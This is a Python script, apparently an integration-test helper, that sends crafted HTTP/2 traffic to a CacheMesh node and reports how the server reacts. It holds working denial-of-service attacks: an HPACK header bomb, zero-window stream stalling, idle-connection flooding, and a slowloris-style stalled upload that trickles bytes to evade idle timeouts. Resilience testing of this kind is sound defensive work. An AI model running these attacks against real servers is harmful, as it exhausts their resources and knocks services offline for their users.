#!/usr/bin/python3
"""Crafted HTTP/2 traffic against a CacheMesh node (python3-h2, Debian's package).

Used by the attack tests in Tests/IntegrationTests; prints one JSON line with what it saw.

  header-bomb: every stream sends one header field (NAME: VALUE-SIZE bytes) COPIES times.
               HPACK indexes it once and then names it with one byte per copy, so a few KB
               on the wire decode to COPIES x VALUE-SIZE bytes at the server.
  zero-window: open STREAMS GETs of PATH with an initial window of 0 and never read: the
               server can send headers but no body; prints how the streams ended after HOLD s.
  idle-connections: open CONNECTIONS TLS+HTTP/2 connections (handshake, preface, SETTINGS) and
               hold them without a request for HOLD s; prints how many the server closed.
  stalled-put: PUT PATH declaring CONTENT-LENGTH bytes, send SEND bytes of them, then hold the
               stream open for HOLD seconds without sending more (or until the server ends it);
               with --trickle N, one more byte every N seconds meanwhile.
"""
import argparse, json, socket, ssl, sys, time

import h2.config, h2.connection, h2.events, h2.exceptions, h2.settings


def connect(a):
    ctx = ssl.create_default_context(cafile=a.ca)
    ctx.check_hostname = False
    if a.cert:
        ctx.load_cert_chain(a.cert, a.key)
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection((a.host, a.port), timeout=a.timeout)
    s = ctx.wrap_socket(raw, server_hostname="cachemesh")
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8",
                                                                 validate_outbound_headers=False,
                                                                 normalize_outbound_headers=False))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    return s, conn


def pump(s, conn, out, until, deadline):
    """Read and record events until until() or the deadline or the connection ends."""
    while not until() and time.time() < deadline:
        try:
            data = s.recv(65536)
        except socket.timeout:
            continue
        except (ConnectionError, ssl.SSLError, OSError) as e:
            out["closed"] = f"{type(e).__name__}: {e}"
            return
        if not data:
            out["closed"] = "eof"
            return
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError as e:
            out["closed"] = f"protocol error: {e}"
            return
        for e in events:
            if isinstance(e, h2.events.ResponseReceived):
                out["status"][str(e.stream_id)] = int(dict(e.headers)[":status"])
            elif isinstance(e, h2.events.StreamReset):
                out["reset"][str(e.stream_id)] = int(e.error_code)
            elif isinstance(e, h2.events.ConnectionTerminated):
                out["goaway"] = int(e.error_code)
            elif isinstance(e, h2.events.DataReceived):
                conn.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
        pending = conn.data_to_send()
        if pending:
            s.sendall(pending)


def header_bomb(a):
    out = {"status": {}, "reset": {}, "goaway": None, "closed": None, "wire_bytes": 0}
    s, conn = connect(a)
    deadline = time.time() + a.timeout
    pump(s, conn, out, lambda: True, time.time() + 0.2)  # settings
    for i in range(a.streams):
        if out["goaway"] is not None or out["closed"]:
            break
        sid = conn.get_next_available_stream_id()
        headers = [(":method", "GET"), (":scheme", "https"), (":authority", "cachemesh"), (":path", "/cas/" + "0" * 64)]
        headers += [(a.name, "v" * a.value_size)] * a.copies
        conn.send_headers(sid, headers, end_stream=True)
        data = conn.data_to_send()
        out["wire_bytes"] += len(data)
        s.sendall(data)
        pump(s, conn, out, lambda: str(sid) in out["status"] or str(sid) in out["reset"] or out["goaway"] is not None, deadline)
    s.close()
    return out


def stalled_put(a):
    out = {"status": {}, "reset": {}, "goaway": None, "closed": None, "wire_bytes": 0}
    s, conn = connect(a)
    pump(s, conn, out, lambda: True, time.time() + 0.2)
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, [(":method", "PUT"), (":scheme", "https"), (":authority", "cachemesh"), (":path", a.path),
                            ("content-length", str(a.content_length))])
    s.sendall(conn.data_to_send())
    sent = 0
    chunk = b"\xa5" * 16384
    deadline = time.time() + a.timeout
    while sent < a.send and time.time() < deadline and not out["closed"]:
        n = min(len(chunk), a.send - sent, conn.local_flow_control_window(sid), conn.max_outbound_frame_size)
        if n <= 0:
            pump(s, conn, out, lambda: conn.local_flow_control_window(sid) > 0 or str(sid) in out["reset"], time.time() + 1)
            continue
        conn.send_data(sid, chunk[:n])
        s.sendall(conn.data_to_send())
        sent += n
    out["sent"] = sent
    print(json.dumps({"event": "sent", "bytes": sent}), flush=True)
    end = time.time() + a.hold
    ended = lambda: str(sid) in out["status"] or str(sid) in out["reset"] or out["closed"] is not None
    if a.trickle > 0:
        # One byte every TRICKLE seconds: often enough to dodge an idle timeout.
        while time.time() < end and not ended():
            pump(s, conn, out, ended, min(end, time.time() + a.trickle))
            if ended() or conn.local_flow_control_window(sid) < 1:
                continue
            try:
                conn.send_data(sid, b"\xa5")
                s.sendall(conn.data_to_send())
                out["sent"] += 1
            except (h2.exceptions.ProtocolError, h2.exceptions.StreamClosedError, OSError, ssl.SSLError):
                break
    pump(s, conn, out, ended, end)
    s.close()
    return out


def zero_window(a):
    out = {"status": {}, "reset": {}, "goaway": None, "closed": None, "wire_bytes": 0}
    s, conn = connect(a)
    conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    s.sendall(conn.data_to_send())
    pump(s, conn, out, lambda: True, time.time() + 0.2)
    ids = []
    for _ in range(a.streams):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(":method", "GET"), (":scheme", "https"), (":authority", "cachemesh"), (":path", a.path)], end_stream=True)
        ids.append(sid)
    s.sendall(conn.data_to_send())
    print(json.dumps({"event": "opened", "streams": len(ids)}), flush=True)
    # Never acknowledge data: the connection window is never re-opened either.
    pump(s, conn, out, lambda: all(str(i) in out["reset"] for i in ids), time.time() + a.hold)
    s.close()
    return out


def idle_connections(a):
    socks, failed = [], 0
    for _ in range(a.connections):
        try:
            s, conn = connect(a)
            socks.append(s)
        except (OSError, ssl.SSLError):
            failed += 1
    print(json.dumps({"event": "opened", "connections": len(socks), "failed": failed}), flush=True)
    time.sleep(a.hold)
    closed = 0
    for s in socks:
        s.setblocking(False)
        try:
            while True:
                data = s.recv(65536)
                if not data:
                    closed += 1
                    break
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except (OSError, ssl.SSLError):
            closed += 1
        s.close()
    return {"status": {}, "reset": {}, "goaway": None, "closed": None, "opened": len(socks), "failed": failed, "closed_by_server": closed}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("attack", choices=["header-bomb", "stalled-put", "zero-window", "idle-connections"])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--ca", required=True)
    p.add_argument("--cert")
    p.add_argument("--key")
    p.add_argument("--streams", type=int, default=3)
    p.add_argument("--copies", type=int, default=30000)
    p.add_argument("--value-size", type=int, default=4000)
    p.add_argument("--name", default="x-bomb")
    p.add_argument("--timeout", type=float, default=30)
    p.add_argument("--path", default="/cas/" + "0" * 64)
    p.add_argument("--content-length", type=int, default=60 << 20)
    p.add_argument("--send", type=int, default=1 << 20)
    p.add_argument("--hold", type=float, default=10)
    p.add_argument("--trickle", type=float, default=0, help="stalled-put: then one byte every N seconds")
    p.add_argument("--connections", type=int, default=100)
    a = p.parse_args()
    out = {"header-bomb": header_bomb, "stalled-put": stalled_put, "zero-window": zero_window, "idle-connections": idle_connections}[a.attack](a)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
